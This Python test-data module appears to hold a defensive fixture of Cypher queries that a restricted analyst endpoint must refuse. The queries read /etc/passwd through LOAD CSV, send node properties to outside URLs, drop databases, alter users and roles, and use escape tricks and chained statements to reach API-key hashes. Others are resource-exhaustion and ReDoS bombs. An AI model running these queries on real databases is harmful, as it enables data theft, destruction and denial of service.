"""Statements that analysts may not ask, by what they try: each a text and the code of its refusal.

B: BAD_INPUT, F: FORBIDDEN, P: FORBIDDEN by its plan, C: COST. What is stopped by time or memory only is under `BOMBS`.
"""

from __future__ import annotations

import itertools

BIG = "x" * 60_000
FILES = """
F LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l
F LOAD CSV FROM 'http://127.0.0.1:1/x' AS l RETURN l
F LOAD CSV WITH HEADERS FROM 'https://example.org/x.csv' AS l RETURN l.a
F LOAD CSV FROM 'ftp://example.org/x' AS l FIELDTERMINATOR ';' RETURN count(l)
F load csv from 'file:///x' as l return l
F MATCH (p:Person) LOAD CSV FROM 'http://x/' + p.id AS l RETURN l
F CALL { LOAD CSV FROM 'file:///x' AS l RETURN l } RETURN l
F MATCH (p:Person) CALL (p) { LOAD CSV FROM 'http://x/' + p.name AS l RETURN l } RETURN l
F RETURN EXISTS { LOAD CSV FROM 'file:///x' AS l RETURN l }
F RETURN COUNT { LOAD CSV FROM 'file:///x' AS l RETURN l } AS n
F RETURN [x IN [1] | COLLECT { LOAD CSV FROM 'http://x/y' AS l RETURN l }]
F RETURN [x IN [1] WHERE EXISTS { LOAD CSV FROM 'http://x/y' AS l RETURN l } | 1]
F RETURN CASE WHEN EXISTS { LOAD CSV FROM 'http://x/y' AS l RETURN l } THEN 1 END
F RETURN 1 AS x UNION LOAD CSV FROM 'file:///x' AS l RETURN l[0] AS x
F LOAD/**/CSV FROM 'file:///x' AS l RETURN l
F USING PERIODIC COMMIT 500 LOAD CSV FROM 'file:///x' AS l RETURN l
B L\\u004fAD CSV FROM 'file:///x' AS l RETURN l
F UNWIND ['file:///a', 'file:///b'] AS f LOAD CSV FROM f AS l RETURN l, file(), linenumber()
F RETURN file()
F RETURN linenumber() AS n
"""
ADMINISTRATION = """
F SHOW TRANSACTIONS
F SHOW TRANSACTIONS YIELD * RETURN *
F SHOW SETTINGS YIELD name, value RETURN name
F SHOW USERS
F SHOW CURRENT USER
F SHOW DATABASES
F SHOW PROCEDURES EXECUTABLE
F SHOW FUNCTIONS
F SHOW INDEXES
F SHOW CONSTRAINTS
F SHOW SERVERS
F SHOW PRIVILEGES
F SHOW ROLES
F TERMINATE TRANSACTIONS 'neo4j-transaction-1'
F TERMINATE TRANSACTION 'neo4j-transaction-1' YIELD message RETURN message
F SHOW TRANSACTIONS YIELD transactionId AS t TERMINATE TRANSACTIONS t YIELD message RETURN message
F CREATE USER eve SET PASSWORD 'abcdefgh' CHANGE NOT REQUIRED
F ALTER USER neo4j SET PASSWORD 'abcdefgh'
F ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'
F DROP USER neo4j
F RENAME USER neo4j TO eve
F CREATE DATABASE other
F CREATE OR REPLACE DATABASE neo4j
F DROP DATABASE neo4j
F STOP DATABASE neo4j
F START DATABASE neo4j
F ALTER DATABASE neo4j SET ACCESS READ ONLY
F CREATE ALIAS a FOR DATABASE neo4j
F GRANT ROLE admin TO neo4j
F DENY MATCH {*} ON GRAPH * TO PUBLIC
F REVOKE ROLE admin FROM neo4j
F ENABLE SERVER 'x'
F DEALLOCATE DATABASES FROM SERVER 'x'
F REALLOCATE DATABASES
F CREATE INDEX FOR (n:Person) ON (n.name)
F CREATE CONSTRAINT FOR (n:Person) REQUIRE n.x IS UNIQUE
F DROP INDEX search
F DROP CONSTRAINT x IF EXISTS
F CREATE FULLTEXT INDEX x FOR (n:Person) ON EACH [n.name]
"""
PROCEDURES = """
F CALL db.clearQueryCaches()
F CALL db.clearQueryCaches
F call DB.ClearQueryCaches()
F CALL `db`.`clearQueryCaches`()
F CALL db.labels() YIELD label RETURN label
F CALL db.propertyKeys()
F CALL db.relationshipTypes()
F CALL db.schema.visualization()
F CALL db.schema.nodeTypeProperties()
F CALL db.info()
F CALL db.ping()
F CALL db.checkpoint()
F CALL db.createLabel('X')
F CALL db.createProperty('X')
F CALL db.createRelationshipType('X')
F CALL db.prepareForReplanning()
F CALL db.resampleIndex('search')
F CALL db.resampleOutdatedIndexes()
F CALL db.stats.clear('QUERIES')
F CALL db.stats.collect('QUERIES')
F CALL db.stats.retrieve('GRAPH COUNTS')
F CALL db.create.setNodeVectorProperty(1, 'a', [1.0])
F CALL db.index.fulltext.listAvailableAnalyzers()
F CALL db.index.fulltext.queryRelationships('search', 'x')
F CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()
F CALL dbms.components()
F CALL dbms.listConfig()
F CALL dbms.setConfigValue('db.transaction.timeout', '0')
F CALL dbms.killConnection('bolt-1')
F CALL dbms.killConnections(['bolt-1'])
F CALL dbms.listConnections()
F CALL dbms.listPools()
F CALL dbms.listActiveLocks('x')
F CALL dbms.queryJmx('*:*')
F CALL dbms.info()
F CALL dbms.showCurrentUser()
F CALL dbms.security.changePassword('x')
F CALL dbms.upgrade()
F CALL dbms.scheduler.groups()
F CALL dbms.quarantineDatabase('neo4j', true)
F CALL dbms.checkConfigValue('a', 'b')
F CALL tx.setMetaData({user: 'somebody else'})
F CALL tx.getMetaData()
F CALL apoc.load.json('http://x/') YIELD value RETURN value
F CALL apoc.cypher.run('CREATE (n)', {}) YIELD value RETURN value
F CALL apoc.periodic.commit('CREATE (n)', {})
F CALL apoc.export.csv.all('/tmp/x', {})
F CALL gds.graph.drop('g')
F CALL gds.graph.list()
F CALL gds.graph.project('g', '*', '*')
F CALL gds.graph.export.csv('g', {exportName: 'x'})
F CALL gds.pageRank.write('g', {writeProperty: 'x'})
F CALL gds.debug.sysInfo()
F CALL gds.config.defaults.set('a', 1)
F CALL genai.vector.encodeBatch(['x'], 'OpenAI', {})
F RETURN genai.vector.encode('x', 'OpenAI', {token: 'x'})
F RETURN apoc.util.md5(['x']) AS h
F RETURN apoc.util.sha256(['x']) AS h
F RETURN apoc.text.repeat('x', 1000000000) AS h
F RETURN gds.version()
F RETURN gds.graph.exists('x')
F RETURN gds.util.asNode(1)
F RETURN graph.names()
F RETURN graph.byName('neo4j')
F RETURN randomUUID()
F RETURN date.transaction() AS d
F RETURN `apoc`.`util`.`sha1`(['x'])
F MATCH (p:Person) CALL (p) { CALL db.labels() YIELD label RETURN label } RETURN label
F RETURN [x IN [1] | COUNT { CALL db.clearQueryCaches() YIELD value RETURN value }]
F RETURN all(x IN [1] WHERE EXISTS { CALL dbms.listConfig() YIELD name RETURN name })
F OPTIONAL CALL db.labels() YIELD label RETURN label
F RETURN 1 AS x UNION CALL db.labels() YIELD label AS x RETURN x
F CALL/* a */db/* b */./* c */labels()
"""
WRITES = """
F CREATE (n:Person {id: 'x/eve'}) RETURN n
F MERGE (n:Person {id: 'x/eve'}) RETURN n
P MATCH (n:Person) SET n.name = 'x'
P MATCH (n:Person) SET n += {name: 'x'} RETURN n
P MATCH (n:Person) SET n:Admin RETURN n
P MATCH (n:Person) REMOVE n.name RETURN n
P MATCH (n:Person) REMOVE n:Person
P MATCH (n:Person) DELETE n
P MATCH (n:Person) DETACH DELETE n
P MATCH (n:Person) NODETACH DELETE n
F MATCH (n:Person) FOREACH (x IN [1] | SET n.name = 'x')
F FOREACH (x IN range(1, 10) | CREATE (:X))
F MATCH (a:Person), (b:Person) CREATE (a)-[:KNOWS]->(b)
F MATCH (a:Person), (b:Person) MERGE (a)-[r:KNOWS]->(b) ON CREATE SET r.x = 1 RETURN r
P MATCH (p:Person) CALL (p) { SET p.name = 'x' } RETURN p
F CALL { CREATE (n:X) RETURN n } RETURN n
P CALL { MATCH (n:Person) DETACH DELETE n } RETURN 1 AS one
P MATCH (p:Person) CALL (p) { CALL (p) { SET p.name = 'x' } } RETURN p
F RETURN COLLECT { CREATE (n:X) RETURN n } AS x
F RETURN EXISTS { MERGE (n:X) } AS x
F UNWIND range(1, 10) AS x CREATE (:X {x: x})
P MATCH (n:Person) WITH n LIMIT 1 DETACH DELETE n
F RETURN 1 AS x UNION CREATE (n:X) RETURN 1 AS x
F MATCH (n:Person) CALL (n) { DETACH DELETE n } IN TRANSACTIONS OF 1 ROWS
F UNWIND range(1, 10) AS x CALL (x) { RETURN x AS y } IN TRANSACTIONS RETURN y
F UNWIND range(1, 10) AS x CALL (x) { RETURN x AS y } IN 2 CONCURRENT TRANSACTIONS RETURN y
F INSERT (n:X)
F /* */ CREATE (n:X)
B CR\\u0045ATE (n:X)
"""
PREFIXES = """
F EXPLAIN MATCH (n:Person) RETURN n
F explain RETURN 1
F PROFILE MATCH (n:Person) RETURN n
F USE neo4j MATCH (n:Person) RETURN n
F USE system SHOW USERS
F USE graph.byName('neo4j') RETURN 1
F CYPHER 25 RETURN 1
F CYPHER 5 RETURN 1
F CYPHER runtime=parallel MATCH (n:Person) RETURN n
F CYPHER planner=dp RETURN 1
F CYPHER replan=force RETURN 1
F /* a comment */ EXPLAIN RETURN 1
F /* a /* comment */ PROFILE RETURN 1
F /**/EXPLAIN/**/RETURN 1
F CYPHER EXPLAIN RETURN 1
F EXPLAIN EXPLAIN RETURN 1
F CALL { USE neo4j MATCH (n:Person) RETURN n } RETURN n
F RETURN 1 AS x UNION USE system RETURN 1 AS x
F MATCH (p:Person) CALL (p) { USE neo4j RETURN 1 AS one } RETURN one
B \\u0045XPLAIN RETURN 1
B E\\u0058PLAIN RETURN 1
B \\u0050ROFILE RETURN 1
B \\uu0045XPLAIN RETURN 1
B /* \\u002a\\u002f EXPLAIN /* */ RETURN 1
B RETURN 'a\\u0027 AS x //
B RETURN 'a\\\\u0027, 1 AS x //
B RETURN "a\\u0022 AS x //
B RETURN 'a\\u005c' AS x
B RETURN 1 // \\u000a UNION MATCH (n) RETURN n
B RETURN `a\\u0060 AS x
B RETURN 1\\u003b RETURN 2
B RETURN 1 \\u002b 1 AS x
B RETURN \\u0031 AS x
B RETURN 1; RETURN 2
B RETURN 1;CREATE (n:X);
B RETURN 1; /* x */ RETURN 2 ;
B MATCH (n:Person) RETURN n; MATCH (n:Person) DETACH DELETE n
B ;
B ; ;
B // nothing
B /* nothing */
B /* never ends
B RETURN 'never ends
B RETURN `never ends
B RETURN (1
B RETURN 1)
B RETURN [1}
B RETURN {a: 1
F COMMIT
F BEGIN
F :param x => 1
F RETUR 1
F 1
F 'text'
"""
SECRETS = """
P MATCH (n) RETURN n
P MATCH (n) RETURN properties(n)
P MATCH (n) RETURN labels(n), count(*)
F MATCH (n:ApiKey) RETURN n
F MATCH (n:`ApiKey`) RETURN n.hash
F MATCH (n:Tombstone) RETURN n.id
F MATCH (n:Request) RETURN n
F MATCH (n:Hook) RETURN n.url
F MATCH (n:Person|ApiKey) RETURN n
P MATCH (n:!Person) RETURN n
P MATCH (n:!Person&!Goal) RETURN n
P MATCH (n:%) RETURN n
F MATCH (n IS ApiKey) RETURN n
F MATCH (n) WHERE n:ApiKey RETURN n
P MATCH (n) WHERE n.hash IS NOT NULL RETURN n
P MATCH (n) WHERE 'ApiKey' IN labels(n) RETURN n
P MATCH (n) WHERE NOT n:Person RETURN n
P MATCH (n) WHERE elementId(n) = '4:x:1' RETURN n
P MATCH (n) WHERE id(n) = 1 RETURN n
P MATCH (n) WHERE id(n) IN [0, 1, 2, 3] RETURN n
P MATCH (n:$('Api' + 'Key')) RETURN n
P MATCH (n:$any(['Api' + 'Key'])) RETURN n
P MATCH (n:$($label)) RETURN n
P MATCH (p:Person), (n) RETURN n LIMIT 10
P MATCH (p:Person) OPTIONAL MATCH (n) WHERE n.account = p.id RETURN n
P MATCH (n {name: 'x'}) RETURN n
P MATCH (n)-[*0..1]-(m) RETURN m
P MATCH (n)-[*0]-(m) RETURN m
P MATCH (n)--{0,1}(m) RETURN m
P MATCH (n)--*(m) RETURN m
P MATCH (p:Person) CALL { MATCH (n) RETURN n } RETURN n
P CALL { MATCH (n) RETURN n UNION MATCH (n:Person) RETURN n } RETURN n
F RETURN COLLECT { MATCH (n) RETURN n } AS l
F RETURN [x IN [1] | COLLECT { MATCH (n) RETURN properties(n) }]
F RETURN [x IN [1] | COLLECT { MATCH (n) WHERE n.hash STARTS WITH 'a' RETURN n.hash }]
F RETURN [x IN [1] | COUNT { (n) WHERE n.hash STARTS WITH 'a' }]
F RETURN [x IN [1] | EXISTS { (n {name: 'x'}) }]
F RETURN [x IN [1] | COLLECT { MATCH (p:Person), (n) RETURN n }]
F RETURN [x IN [1] | COLLECT { MATCH (p:Person) MATCH (n) RETURN n }]
F RETURN [x IN [1] | COLLECT { MATCH (p:Person) OPTIONAL MATCH (n) RETURN n }]
F RETURN [x IN [1] | COLLECT { MATCH (n:!Person) RETURN n }]
F RETURN [x IN [1] | COLLECT { MATCH (n:$('Api' + 'Key')) RETURN n }]
F RETURN [x IN [1] | COLLECT { MATCH (n)-[*0..1]-(m) RETURN m }]
F RETURN [x IN [1] | COLLECT { MATCH (n)--{0,1}(m) RETURN m }]
F RETURN [x IN [1] | COLLECT { MATCH (n)--*(m) RETURN m }]
F RETURN [x IN [1] | COLLECT { MATCH ((n)) RETURN n }]
F RETURN [x IN [1] | COLLECT { MATCH q = (n) RETURN q }]
F RETURN [x IN [1] | COLLECT { CALL { MATCH (n) RETURN n } RETURN n }]
F RETURN [x IN [1] | COLLECT { MATCH (p:Person) CALL (p) { MATCH (n) RETURN n } RETURN n }]
F RETURN [x IN [1] | COLLECT { MATCH (p:Person) RETURN p UNION MATCH (p) RETURN p }]
F RETURN CASE WHEN COUNT { MATCH (n) WHERE n.hash STARTS WITH 'a' } > 0 THEN 1 ELSE 2 END
F MATCH (n:Person) WITH 1 AS one RETURN [x IN [1] | COLLECT { MATCH (n) RETURN properties(n) }]
F RETURN [x IN [1] | [(n)-[*0..0]-(m) | m]]
F RETURN size([(n)-[*0..1]-(m) | properties(m)])
F RETURN exists((n)-[*0..1]-(m))
F RETURN shortestPath((n)-[*0..1]-(m))
F MATCH (n:Goal) RETURN size((n)--{0,1}(m))
F MATCH (n:Person) RETURN reduce(s = 0, x IN [1] | s + COUNT { MATCH (q) WHERE q.hash > 'a' })
F RETURN COUNT { MATCH (a:Person WHERE EXISTS { MATCH (n) WHERE n.hash > 'a' }) }
"""
GROWTH = """
C RETURN range(1, 1000000000) AS l
C WITH range(1, 100000000) AS l RETURN size(l)
C RETURN size(range(0, 10000000)) AS n
C RETURN range(1, $n) AS l
C RETURN range(1, 10 * 1000 * 1000 * 1000) AS l
C MATCH (p:Person) RETURN range(0, p.level) AS l
C UNWIND range(1, 1000000000) AS x RETURN collect(x) AS l
C UNWIND range(-500000000, 500000000) AS x RETURN x
C RETURN [x IN range(1, 1000000000) | x] AS l
C RETURN size([x IN range(1, 1000000000) WHERE x % 2 = 0]) AS n
C RETURN reduce(s = 0, x IN range(1, 3000000000) | s + x) AS n
C RETURN reduce(s = 'a', x IN range(1, 40) | s + s) AS n
C RETURN reduce(s = [1], x IN range(1, 40) | s + s) AS n
C RETURN reduce(s = [1], x IN range(1, 60) | [s, s]) AS n
C RETURN reduce(s = 'a', x IN [1, 2, 3] | toUpper(s) + 'b' + s) AS n
C RETURN all(x IN range(1, 3000000000) WHERE x > 0) AS n
C RETURN any(x IN range(1, 100000000) WHERE x < 0) AS n
C RETURN none(x IN range(1, 100000000) WHERE x < 0) AS n
C RETURN [x IN range(1, 10000) | [y IN range(1, 10000) | [z IN range(1, 10000) | 1]]] AS l
C RETURN size([x IN range(1, 9000) WHERE any(y IN range(1, 9000) WHERE y < 0)]) AS l
C MATCH (p:Person) WITH collect(p.id) AS l RETURN [x IN l | [y IN l | x + y]] AS m
C MATCH (p:Person) WITH collect(p.id) AS l RETURN reduce(s = 0, x IN l | s + reduce(t = 0, y IN l | t + 1)) AS m
C MATCH (p:Person) WITH collect(p.id) AS l RETURN [x IN l | toUpper($big)] AS m
C MATCH (p:Person) WITH collect(p.id) AS l RETURN [x IN l | $big + x] AS m
C MATCH (p:Person) WITH collect(p.id) AS l, p.title AS big RETURN reduce(s = '', x IN l | s + big) AS m
C RETURN [x IN range(1, 10000) | toUpper($big)] AS m
C MATCH (p:Person) WITH p, collect(p.id) AS l RETURN [x IN l | p.title + x] AS m
C MATCH (p:Person) WITH p, collect(p.id) AS l RETURN [x IN l | x + p.title] AS m
C MATCH (p:Person) WITH collect(p.id) AS l RETURN [x IN l | left($big, 9) + x] AS m
C MATCH (p:Person) WITH p, collect(p.id) AS l RETURN [x IN l | x + '-' + [p.title][0] + x] AS m
C RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '(a|aa)+$' AS x
C MATCH (p:Person) WHERE p.name =~ '(.*a){20}' RETURN p
C RETURN [x IN ['a'] WHERE x =~ '(a+)+'] AS x
"""


def _doubling(step: str, times: int, end: str = "size(s)") -> str:
    return f"WITH 'aaaaaaaa' AS s {step * times} RETURN {end} AS n"


GROWN = [
    ("C", _doubling("WITH s + s AS s ", 31)),
    ("C", _doubling("WITH [s, s] AS s ", 60)),
    ("C", _doubling("WITH {a: s, b: s} AS s ", 40)),
    ("C", _doubling("WITH s + s + s + s AS s ", 15)),
    ("C", _doubling("WITH toUpper(s + s) AS s ", 25)),
    ("C", _doubling("WITH s AS t, s AS s WITH s + t AS s ", 25)),
    ("C", _doubling("WITH [x IN [s] | x + x][0] AS s ", 25)),
    ("C", _doubling("WITH [x IN range(0, 1) | s] AS s ", 40)),
    ("C", _doubling("WITH CASE WHEN true THEN s + s ELSE s END AS s ", 25)),
    ("C", _doubling("UNWIND [s + s] AS s WITH s ", 25)),
    ("C", _doubling("CALL (s) { RETURN s + s AS t } WITH t AS s ", 25)),
    ("C", _doubling("WITH coalesce(s = 'b', null) AS c, s + s AS s ", 25)),
    ("C", _doubling("WITH replace(s, 'a', s) AS s ", 6)),
    ("C", "RETURN '" + "x" * 8_200 + "' AS x"),
    ("C", "RETURN [" + ",".join(["1"] * 5_000) + "] AS x"),
    ("B", "RETURN " + "[" * 100 + "1" + "]" * 100 + " AS x"),
    ("B", "RETURN " + "(" * 3_000 + "1" + ")" * 3_000 + " AS x"),
]
LONG_PLANS = [
    ("C", "MATCH " + ", ".join(f"(a{n}:Person)-->(b{n})" for n in range(300)) + " RETURN 1 AS one"),
    ("C", "MATCH " + ", ".join(f"(a{n}:Person)" for n in range(400)) + " RETURN 1 AS one"),
    ("C", "MATCH " + "".join(f"(a{n}:Person)-->" for n in range(300)) + "(z) RETURN 1 AS one"),
    ("C", "MATCH (a:Person) " + "OPTIONAL MATCH (a)-->(:Person) " * 200 + "RETURN 1 AS one"),
    ("C", " UNION ".join(f"MATCH (a:Person) RETURN {n} AS one" for n in range(150))),
    ("C", "RETURN " + "NOT " * 1_900 + "true AS x"),
    ("C", "RETURN " + "NOT (" * 50 + "true" + ")" * 50 + " AS x"),
    ("C", "RETURN " + "CASE WHEN true THEN " * 200 + "1" + " END" * 200 + " AS x"),
    ("C", "RETURN 1" + "+1" * 3_900 + " AS x"),
    ("C", "RETURN " + " + ".join(["COUNT { (a:Person)-->(:Person) }"] * 150) + " AS x"),
    ("C", "MATCH (a:Person) WHERE " + " OR ".join(["(a.x = 1 AND a.y = 2)"] * 250) + " RETURN a"),
    ("C", "MATCH (a:Person) " + "WITH a ORDER BY a.x " * 300 + "RETURN a"),
]
CHARACTERS = [
    ("B", "RETURN 1\0 AS x"),
    ("B", "RETURN '\0' AS x"),
    ("B", "RETURN '\ud800' AS x"),
    ("B", "RETURN 1 AS \udfff"),
    ("B", "\u200bEXPLAIN RETURN 1"),
    ("B", "EX\u200dPLAIN RETURN 1"),
    ("B", "\ufeffEXPLAIN RETURN 1"),
    ("B", "RETURN 1 AS x\u202e"),
    ("B", "RETURN 1 \x1b[31m AS x"),
    ("B", "\x0bEXPLAIN RETURN 1"),
    ("B", "\x1cEXPLAIN RETURN 1"),
    ("B", "RETURN 1 AS x \x7f"),
    ("B", "U\u017fE system RETURN 1"),
    ("B", "RETURN \uff41poc.x()"),
    ("B", "RETURN ran\u212aom() AS x"),
    ("F", "\u00a0EXPLAIN RETURN 1"),
    ("F", "\u2003SHOW USERS"),
]
PARAMETERS: list[object] = [
    [1],
    "text",
    1,
    True,
    {"x": 2**63},
    {"x": -(2**63) - 1},
    {"x": 10**400},
    {"x": "\ud800"},
    {"x": ["a", {"b": "\udfff"}]},
    {"x": "a\0b"},
    {"\0": 1},
    {"\ud800": 1},
    {"x": {"\ud800": 1}},
    {1: 2},
    {"x": range},
    {"x": b"bytes"},
    {"x": {1: 2}},
]
"""Parameters of wrong kinds."""
BOMBS = [
    "UNWIND range(1, 1000000) AS a UNWIND range(1, 1000000) AS b RETURN count(*) AS n",
    "UNWIND range(1, 1000000) AS a UNWIND range(1, 1000000) AS b RETURN collect([a, b]) AS n",
    "UNWIND range(1, 1000000) AS a UNWIND range(1, 1000000) AS b WITH a, b ORDER BY b RETURN a, b",
    "UNWIND range(1, 1000000) AS a UNWIND range(1, 1000000) AS b RETURN DISTINCT a * b AS n ORDER BY n",
    "UNWIND range(1, 1000000) AS a UNWIND range(1, 1000000) AS b RETURN max(toString(a) + b) AS n",
    "UNWIND range(1, 1000000) AS x RETURN sum(reduce(s = 0, y IN range(1, 10000) | s + y)) AS n",
    "UNWIND range(1, 1000000) AS x CALL (x) { UNWIND range(1, 1000000) AS y RETURN sum(y) AS s } RETURN sum(s) AS n",
    "MATCH (a:Person), (b:Person), (c:Person), (d:Person), (e:Person), (f:Person) RETURN sum(size(a.id + f.id)) AS n",
    "MATCH (a:Person), (b:Person), (c:Person), (d:Person) WHERE a.id + b.id + c.id + d.id = '' RETURN a",
    "MATCH (a:Person)-[*1..40]-(b:Person) RETURN count(*) AS n",
    "MATCH p = (a:Person)-[*]-(b:Person) RETURN max(length(p)) AS n",
    "MATCH p = (a:Person)-[*]-(b) RETURN count(p) AS n",
    "MATCH (a:Person) ((x)--(y)){1,30} (b:Person) RETURN count(*) AS n",
    "MATCH (a:Person), (b:Person) MATCH q = (a)-[*..12]-(b) RETURN count(*) AS n",
    "MATCH (a:Person) RETURN count(COUNT { (a)--{1,20}(b) }) AS n",
]
"""What no text shows: they are stopped after their time, or where they hold too much memory."""


def listed(text: str) -> list[tuple[str, str]]:
    """Code and statement of each line."""
    lines = [line for line in text.splitlines() if line.strip()]
    return [(line[0], line[2:]) for line in lines]


ATTACKS = [
    *itertools.chain.from_iterable(
        map(listed, (FILES, ADMINISTRATION, PROCEDURES, WRITES, PREFIXES, SECRETS, GROWTH))
    ),
    *GROWN,
    *LONG_PLANS,
    *CHARACTERS,
]
